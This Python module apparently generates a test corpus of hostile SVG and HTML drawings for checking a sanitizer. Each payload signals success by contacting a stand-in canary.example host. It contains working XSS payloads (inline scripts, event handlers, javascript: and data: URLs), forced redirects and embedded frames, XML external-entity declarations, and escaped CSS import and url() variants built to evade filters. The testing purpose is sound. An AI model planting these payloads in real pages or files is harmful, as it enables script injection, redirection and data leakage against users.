"""What a hostile drawing wants: to run, to lead elsewhere, to fetch.

Each payload shows its success to the canary server: whatever asks for `NAME.canary.example` was
the drawing of that name. A payload is made of elements of the tree in `markup`, so that all ways of
hiding apply to all of them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from markup import Address, Code, Element, Raw, Style, html, svg

HOST = "canary.example"


@dataclass(frozen=True)
class Canary:
    """The addresses and the code by which one drawing shows that it worked."""

    name: str

    def at(self, path: str, scheme: str = "http:") -> Address:
        return Address(f"{scheme}//{self.name}.{HOST}/{path}")

    @property
    def code(self) -> Code:
        return Code(f"document.title='PWNED';fetch('http://{self.name}.{HOST}/run')")

    @property
    def script_address(self) -> Address:
        return Address("javascript:" + self.code)


@dataclass(frozen=True)
class Payload:
    """What stands in a drawing, and what it stands there for."""

    name: str
    # script, handler, link, embedded, fetch, style: what the report counts by.
    category: str
    elements: Callable[[Canary], tuple[Element, ...]]
    # Attributes of the drawing's root.
    root: Callable[[Canary], tuple[tuple[str, str], ...]] = lambda canary: ()
    # What stands before the root.
    before: Callable[[Canary], str] = lambda canary: ""


COVER = svg("rect", width="8", height="8", fill="#3d7187")
HANDLERS_OF_THE_ROOT = (
    "onload", "onclick", "onmousemove", "onmouseover", "onmousedown", "onmouseup", "onpointerdown",
    "onpointermove", "onpointerover", "onpointerenter", "onkeydown", "onfocusin", "onauxclick",
    "onresize", "onunload", "onbeforeunload", "onpagehide", "onpointerrawupdate",
    "ongotpointercapture", "onwheel", "onanimationstart", "onscroll", "onactivate", "oncopy", "ontouchstart", "onzoom",
)
STYLE_PROPERTIES = (
    "fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "marker-end",
    "cursor", "mask-image", "background", "background-image", "list-style-image", "border-image",
    "shape-outside", "content", "-webkit-mask-image", "offset-path", "shape-inside", "marker",
)
PRESENTATION = (
    "fill", "stroke", "filter", "mask", "clip_path", "marker_start", "marker_end", "cursor",
)
IMPORTS = {
    "string": '@import "{}";', "url": "@import url({});", "url-quoted": "@import url('{}') all;",
    "escaped": '@\\69mport "{}";', "escaped-six": '@\\000069 mport "{}";',
    "upper": '@IMPORT "{}";', "comment": '@import/**/"{}";', "layer": '@import url("{}") layer(a);',
}
FUNCTIONS = {
    "url": "url({})", "quoted": 'url("{}")', "upper": "URL('{}')", "spaced": "url(  {}  )",
    "escaped": "u\\72l({})", "escaped-six": "\\000075rl('{}')", "escaped-space": "\\75 rl({})",
    "image-set": 'image-set("{}" 1x)', "image-set-url": "image-set(url({}) 1x)",
    "webkit-image-set": "-webkit-image-set(url('{}') 1x)", "cross-fade":
    "-webkit-cross-fade(url({}), url({}), 50%)", "image": "image('{}')", "src": 'src("{}")',
    "escaped-image-set": 'im\\61ge-set("{}" 1x)', "line-end": 'url("\\\n{}")',
    "variable": 'var(--a, url("{}"))', "light-dark": "image-set('{}' type('image/png'))",
}
LINK_RELATIONS = (
    "stylesheet", "preload", "modulepreload", "prefetch", "preconnect", "dns-prefetch", "icon",
    "manifest", "prerender", "alternate stylesheet",
)


def payloads() -> Iterator[Payload]:
    yield from _scripts()
    yield from _handlers()
    yield from _links()
    yield from _embedded()
    yield from _fetches()
    yield from _styles()


def _scripts() -> Iterator[Payload]:
    def one(name: str, elements: Callable[[Canary], tuple[Element, ...]]) -> Payload:
        return Payload(f"script-{name}", "script", elements)
    yield one("inline", lambda c: (svg("script", c.code),))
    yield one("typed", lambda c: (svg("script", c.code, type="text/ecmascript"),))
    yield one("module", lambda c: (svg("script", c.code, type="module"),))
    yield one("href", lambda c: (svg("script", href=c.at("run.js")),))
    yield one("xlink", lambda c: (svg("script", xlink__href=c.at("run.js")),))
    yield one("data", lambda c: (svg("script", href=Address("data:text/javascript," + c.code)),))
    yield one("html", lambda c: (html("script", c.code),))
    yield one("html-src", lambda c: (html("script", src=c.at("run.js")),))
    yield one("in-defs", lambda c: (svg("defs", svg("script", c.code)),))
    yield one("in-title", lambda c: (svg("title", svg("script", c.code)),))
    yield one("in-metadata", lambda c: (svg("metadata", svg("script", c.code)),))
    yield one("in-foreign-object", lambda c: (svg("foreignObject", html("script", c.code)),))
    yield one("in-text", lambda c: (svg("text", svg("tspan", svg("script", c.code))),))
    yield one("in-unknown", lambda c: (svg("unknown", svg("script", c.code)),))
    yield one("in-switch", lambda c: (svg("switch", svg("script", c.code)),))
    yield one("handler", lambda c: (svg("handler", c.code, type="text/ecmascript"),))
    yield one("listener", lambda c: (svg("listener", event="load", handler=Address("#a")),
                                     svg("script", c.code, id="a")))
    yield one("used", lambda c: (svg("symbol", svg("script", c.code), id="a"),
                                 svg("use", href="#a")))


def _handlers() -> Iterator[Payload]:
    for name in HANDLERS_OF_THE_ROOT:
        yield Payload(f"handler-{name}", "handler", lambda c: (COVER,),
                      root=lambda c, name=name: ((name, c.code),))
    def one(name: str, elements: Callable[[Canary], tuple[Element, ...]]) -> Payload:
        return Payload(f"handler-{name}", "handler", elements)
    yield one("shape-click", lambda c: (svg("rect", width="8", height="8", onclick=c.code),))
    yield one("shape-over", lambda c: (svg("rect", width="8", height="8", onmouseover=c.code),))
    yield one("image-error", lambda c: (svg("image", href="data:image/png,a", width="8", height="8",
                                            onerror=c.code),))
    yield one("image-load", lambda c: (svg("image", href=Address(
        "data:image/gif;base64,R0lGODlhAQABAAAAACw="), onload=c.code, onerror=c.code),))
    yield one("style-load", lambda c: (svg("style", "a{}", onload=c.code),))
    yield one("animate-begin", lambda c: (svg("rect", svg(
        "animate", attributeName="x", dur="50ms", onbegin=c.code)),))
    yield one("animate-end", lambda c: (svg("rect", svg(
        "animate", attributeName="x", dur="10ms", onend=c.code)),))
    yield one("animate-repeat", lambda c: (svg("rect", svg(
        "animate", attributeName="x", dur="10ms", repeatCount="3", onrepeat=c.code)),))
    yield one("set-begin", lambda c: (svg("rect", svg(
        "set", attributeName="x", to="1", onbegin=c.code)),))
    yield one("motion-begin", lambda c: (svg("rect", svg(
        "animateMotion", path="M0 0", dur="10ms", onbegin=c.code)),))
    yield one("transform-begin", lambda c: (svg("rect", svg(
        "animateTransform", attributeName="transform", type="scale", to="1", dur="10ms",
        onbegin=c.code)),))
    yield one("focus", lambda c: (svg("g", COVER, tabindex="0", autofocus="", onfocus=c.code),))
    yield one("focus-link", lambda c: (svg("a", COVER, href="#a", autofocus="", onfocus=c.code),))
    yield one("keyframes", lambda c: (
        svg("style", Style("@keyframes a{to{opacity:1}}")),
        svg("rect", style=Style("animation:a 10ms"), onanimationend=c.code)))
    yield one("nested-load", lambda c: (svg("svg", COVER, onload=c.code),))
    yield one("html-image", lambda c: (html("img", src="data:,", onerror=c.code),))
    yield one("html-body", lambda c: (html("body", onload=c.code),))
    yield one("html-details", lambda c: (html("details", open="", ontoggle=c.code),))
    yield one("html-input", lambda c: (svg("foreignObject", html(
        "input", autofocus="", onfocus=c.code), width="8", height="8"),))
    yield one("html-iframe", lambda c: (html("iframe", onload=c.code),))
    yield one("html-video", lambda c: (html("video", html(
        "source", onerror=c.code, src="data:,")),))
    yield one("unknown-element", lambda c: (svg("any", COVER, onclick=c.code),))


def _links() -> Iterator[Payload]:
    def one(name: str, elements: Callable[[Canary], tuple[Element, ...]]) -> Payload:
        return Payload(f"link-{name}", "link", elements)
    for kind, address in (("script", lambda c: c.script_address), ("away", lambda c: c.at("gone"))):
        yield one(f"{kind}-href", lambda c, a=address: (svg("a", COVER, href=a(c)),))
        yield one(f"{kind}-xlink", lambda c, a=address: (svg("a", COVER, xlink__href=a(c)),))
        yield one(f"{kind}-target", lambda c, a=address: (
            svg("a", COVER, href=a(c), target="_top"),))
        yield one(f"{kind}-both", lambda c, a=address: (
            svg("a", COVER, xlink__href="#a", href=a(c)),))
        yield one(f"{kind}-set", lambda c, a=address: (
            svg("a", COVER, svg("set", attributeName="href", to=a(c))),))
        yield one(f"{kind}-set-xlink", lambda c, a=address: (
            svg("a", COVER, svg("set", attributeName="xlink:href", to=a(c))),))
        yield one(f"{kind}-animate", lambda c, a=address: (svg("a", COVER, svg(
            "animate", attributeName="href", values=Address(f"{a(c)};{a(c)}"), dur="9s")),))
        yield one(f"{kind}-animate-to", lambda c, a=address: (svg("a", COVER, svg(
            "animate", attributeName="href", to=a(c), dur="1ms", fill="freeze")),))
        yield one(f"{kind}-animate-from", lambda c, a=address: (svg("a", COVER, svg(
            "animate", attributeName="href", from_=a(c), to=a(c), dur="9s")),))
        yield one(f"{kind}-set-apart", lambda c, a=address: (
            svg("a", COVER, id="a"), svg("set", href="#a", attributeName="href", to=a(c))))
        yield one(f"{kind}-html", lambda c, a=address: (svg("foreignObject", html(
            "a", "A" * 40, href=a(c), style="display:block;font-size:8px"),
            width="8", height="8"),))
        yield one(f"{kind}-text", lambda c, a=address: (
            svg("a", svg("text", "███", font_size="8", y="7"), href=a(c)),))
        yield one(f"{kind}-form", lambda c, a=address: (svg("foreignObject", html(
            "form", html("button", "A" * 9, style="width:8px;height:8px"), action=a(c)),
            width="8", height="8"),))
        yield one(f"{kind}-button", lambda c, a=address: (svg("foreignObject", html("form", html(
            "button", "A" * 9, formaction=a(c), style="width:8px;height:8px")),
            width="8", height="8"),))
        yield one(f"{kind}-frame", lambda c, a=address: (html("iframe", src=a(c)),))
        yield one(f"{kind}-object", lambda c, a=address: (html("object", data=a(c)),))
        yield one(f"{kind}-refresh", lambda c, a=address: (html(
            "meta", content=Address(f"0;url={a(c)}"), http_equiv="refresh"),))
        yield one(f"{kind}-refresh-deep", lambda c, a=address: (svg("foreignObject", html(
            "p", html("meta", http_equiv="Refresh", content=Address(f"0; {a(c)}")))),))
        yield one(f"{kind}-use", lambda c, a=address: (svg("defs", svg(
            "a", COVER, href=a(c), id="a")), svg("use", href="#a"),))
        yield one(f"{kind}-mixed-set", lambda c, a=address: (svg("a", COVER, svg(
            "set", attributeName=" href ", attributeType="XML", begin="0s", to=a(c))),))
    yield one("base", lambda c: (html("base", href=c.at("")), svg("a", COVER, href="gone"),
                                 svg("image", href="fetched.png")))
    yield one("xml-base", lambda c: (svg("g", svg("image", href="fetched.png"), svg(
        "a", COVER, href="gone"), xml__base=c.at("")),))
    yield one("ping", lambda c: (html("a", COVER, href="#a", ping=c.at("fetched")),))
    yield one("data-page", lambda c: (svg("a", COVER, href=Address(
        "data:text/html,<script>" + c.code + "</script>"), target="_blank"),))


def _embedded() -> Iterator[Payload]:
    bodies: dict[str, Callable[[Canary], Element]] = {
        "frame": lambda c: html("iframe", src=c.at("page.html")),
        "frame-srcdoc": lambda c: html("iframe", srcdoc=Code(f"<script>{c.code}</script>")),
        "frame-data": lambda c: html("iframe", src=Address(
            "data:text/html,<script>" + c.code + "</script>")),
        "object": lambda c: html("object", data=c.at("page.html")),
        "object-data": lambda c: html("object", data=Address(
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>"
            + c.code.replace("#", "%23") + "</script></svg>"), type="image/svg+xml"),
        "embed": lambda c: html("embed", src=c.at("page.html")),
        "image": lambda c: html("img", src=c.at("fetched.png")),
        "image-set": lambda c: html("img", srcset=Address(c.at("fetched.png") + " 1x")),
        "picture": lambda c: html("picture", html("source", srcset=c.at("fetched.png")),
                                  html("img", alt="a")),
        "video": lambda c: html("video", src=c.at("fetched.mp4")),
        "poster": lambda c: html("video", poster=c.at("fetched.png"), width="9", height="9"),
        "audio": lambda c: html("audio", src=c.at("fetched.mp3"), autoplay=""),
        "source": lambda c: html("audio", html("source", src=c.at("fetched.mp3"))),
        "track": lambda c: html("video", html("track", src=c.at("fetched.vtt"), default="",
                                              kind="captions")),
        "input": lambda c: html("input", type="image", src=c.at("fetched.png")),
        "style": lambda c: html("style", Style(f'@import "{c.at("fetched.css")}";')),
        "styled": lambda c: html("div", "a", style=Style(f"background:url({c.at('fetched.png')})")),
        "frame-of-frames": lambda c: html("frameset", html("frame", src=c.at("page.html"))),
        "portal": lambda c: html("portal", src=c.at("page.html")),
    }
    for relation in LINK_RELATIONS:
        bodies[f"link-{relation.replace(' ', '-')}"] = lambda c, r=relation: html(
            "link", rel=r, href=c.at("fetched.css"), as_="style")
    for name, body in bodies.items():
        yield Payload(f"embedded-{name}", "embedded", lambda c, b=body: (b(c),))
        yield Payload(f"foreign-{name}", "embedded", lambda c, b=body: (
            svg("foreignObject", html("body", b(c)), width="8", height="8"),))


def _fetches() -> Iterator[Payload]:
    def one(name: str, elements: Callable[[Canary], tuple[Element, ...]], **others) -> Payload:
        return Payload(f"fetch-{name}", "fetch", elements, **others)
    size = {"width": "8", "height": "8"}
    yield one("image", lambda c: (svg("image", href=c.at("fetched.png"), **size),))
    yield one("image-xlink", lambda c: (svg("image", xlink__href=c.at("fetched.svg"), **size),))
    yield one("image-data", lambda c: (svg("image", href=Address(
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='"
        f"{c.at('fetched.png')}'/></svg>"), **size),))
    yield one("image-both", lambda c: (svg("image", href=c.at("fetched.png"), xlink__href="#a",
                                           **size),))
    yield one("image-secure", lambda c: (svg("image", href=c.at("fetched.png", "https:"), **size),))
    yield one("use", lambda c: (svg("use", href=Address(c.at("fetched.svg") + "#a")),))
    yield one("use-data", lambda c: (svg("use", href=Address(
        "data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='"
        f"{c.at('fetched.png')}'/></svg>#a")),))
    yield one("filter-image", lambda c: (
        svg("filter", svg("feImage", href=c.at("fetched.png")), id="a"),
        svg("rect", filter="url(#a)", **size)))
    yield one("filter-image-xlink", lambda c: (
        svg("filter", svg("feImage", xlink__href=c.at("fetched.png")), id="a"),
        svg("rect", style="filter:url(#a)", **size)))
    yield one("pattern", lambda c: (svg("pattern", href=Address(c.at("fetched.svg") + "#a")),))
    yield one("gradient", lambda c: (
        svg("linearGradient", xlink__href=Address(c.at("fetched.svg") + "#a"), id="a"),
        svg("rect", fill="url(#a)", **size)))
    yield one("text-path", lambda c: (svg("text", svg(
        "textPath", "A", href=Address(c.at("fetched.svg") + "#a"))),))
    yield one("motion-path", lambda c: (svg("rect", svg("animateMotion", svg(
        "mpath", href=Address(c.at("fetched.svg") + "#a")), dur="1s"),),))
    yield one("image-animated", lambda c: (svg("image", svg(
        "set", attributeName="href", to=c.at("fetched.png")), **size),))
    yield one("fill-animated", lambda c: (svg("rect", svg("set", attributeName="filter", to=Address(
        f"url({c.at('fetched.svg')}#a)")), **size),))
    yield one("cursor", lambda c: (svg("cursor", xlink__href=c.at("fetched.png"), id="a"),
                                   svg("rect", cursor="url(#a)", **size)))
    yield one("color-profile", lambda c: (svg("color-profile", xlink__href=c.at("fetched.icc")),))
    yield one("tref", lambda c: (svg("text", svg("tref", xlink__href=c.at("fetched.svg"))),))
    yield one("altglyph", lambda c: (svg("text", svg("altGlyph", "a", xlink__href=c.at("a"))),))
    yield one("font-uri", lambda c: (svg("font-face", svg("font-face-src", svg(
        "font-face-uri", xlink__href=c.at("fetched.svg")))),))
    yield one("video", lambda c: (svg("video", href=c.at("fetched.mp4"), src=c.at("a.mp4")),))
    yield one("prefetch", lambda c: (svg("prefetch", xlink__href=c.at("fetched.svg")),))
    yield one("style-sheet", lambda c: (COVER,),
              before=lambda c: f'<?xml-stylesheet href="{c.at("fetched.css")}" type="text/css"?>')
    yield one("style-sheet-xsl", lambda c: (COVER,),
              before=lambda c: f'<?xml-stylesheet type="text/xsl" href="{c.at("fetched.xsl")}"?>')
    yield one("style-sheet-references", lambda c: (COVER,), before=lambda c: (
        "<?xml-stylesheet\n\thref='" + "".join(f"&#{ord(each)};" for each in c.at("fetched.css"))
        + "'?>"))
    yield one("style-sheet-alternate", lambda c: (COVER,), before=lambda c: (
        f'<?xml-stylesheet alternate="no" title="a" media="all" href="{c.at("fetched.css")}"?>'))
    yield one("outer-subset", lambda c: (COVER,),
              before=lambda c: f'<!DOCTYPE svg SYSTEM "{c.at("fetched.dtd")}">')
    yield one("outer-entity", lambda c: (svg("text", Raw("&a;")),), before=lambda c: (
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{c.at("fetched.txt")}">]>'))
    yield one("outer-parameter", lambda c: (COVER,), before=lambda c: (
        f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{c.at("fetched.dtd")}">%a;]>'))


def _styles() -> Iterator[Payload]:
    def one(name: str, elements: Callable[[Canary], tuple[Element, ...]]) -> Payload:
        return Payload(f"style-{name}", "style", elements)
    shape = {"width": "8", "height": "8", "d": "M0 0h8v8h-8z", "class_": "a"}
    for name, text in IMPORTS.items():
        yield one(f"import-{name}", lambda c, t=text: (
            svg("style", Style(t.format(c.at("fetched.css")))),))
    for name, text in FUNCTIONS.items():
        yield one(f"sheet-{name}", lambda c, t=text: (
            svg("style", Style(f"svg{{background-image:{t.format(*[c.at('a.png')] * 2)}}}")),))
        yield one(f"attribute-{name}", lambda c, t=text: (
            svg("path", style=Style(f"mask:{t.format(*[c.at('a.png')] * 2)}"), **shape),))
    for name in STYLE_PROPERTIES:
        yield one(f"property-{name.strip('-')}", lambda c, n=name: (
            svg("style", Style(f".a{{{n}:url({c.at('a.svg')}#a)}}")), svg("path", **shape)))
    for name in PRESENTATION:
        yield one(f"presentation-{name.replace('_', '-')}", lambda c, n=name: (
            svg("path", **shape, **{n: Style(f"url({c.at('a.svg')}#a)")}),))
    yield one("font-face", lambda c: (
        svg("style", Style(f"@font-face{{font-family:a;src:url({c.at('a.woff2')})}}")),
        svg("text", "A", font_family="a", y="8")))
    yield one("font-face-format", lambda c: (
        svg("style", Style(f"@font-face{{font-family:a;src:local(b),url('{c.at('a.woff2')}') "
                           "format('woff2')}text{font-family:a}")), svg("text", "A", y="8")))
    yield one("in-media", lambda c: (svg("style", Style(
        f"@media all{{svg{{background:url({c.at('a.png')})}}}}")),))
    yield one("in-supports", lambda c: (svg("style", Style(
        f"@supports(fill:red){{svg{{background:url({c.at('a.png')})}}}}")),))
    yield one("hover", lambda c: (COVER, svg("style", Style(
        f"svg:hover{{background:url({c.at('a.png')})}}")),))
    yield one("property-escaped", lambda c: (svg("style", Style(
        f"svg{{b\\61ckground:u\\72 l({c.at('a.png')})}}")),))
    yield one("custom", lambda c: (svg("style", Style(
        f"svg{{--a:url({c.at('a.png')});background:var(--a)}}")),))
    yield one("registered", lambda c: (svg("style", Style(
        f"@property --a{{syntax:'<url>';inherits:true;initial-value:url({c.at('a.png')})}}"
        "svg{background-image:var(--a)}")),))
    yield one("nested", lambda c: (svg("style", Style(
        f"svg{{&{{background:url({c.at('a.png')})}}}}")),))
    yield one("keyframes", lambda c: (svg("style", Style(
        f"@keyframes a{{0%,to{{background-image:url({c.at('a.png')})}}}}svg{{animation:a 9s}}")),))
    yield one("counter", lambda c: (svg("style", Style(
        f"@counter-style a{{system:fixed;symbols:url({c.at('a.png')})}}")),))
    yield one("html-comment", lambda c: (svg("style", Style(
        f"<!-- svg{{background:url({c.at('a.png')})}} -->")),))
    yield one("in-pieces", lambda c: (svg("style", "sv", Style(
        f"g{{background:u"), Style(f"rl({c.at('a.png')})}}")),))
    yield one("own-style-type", lambda c: (svg("style", Style(
        f"svg{{background:url({c.at('a.png')})}}"), type="text/css", media="screen"),))
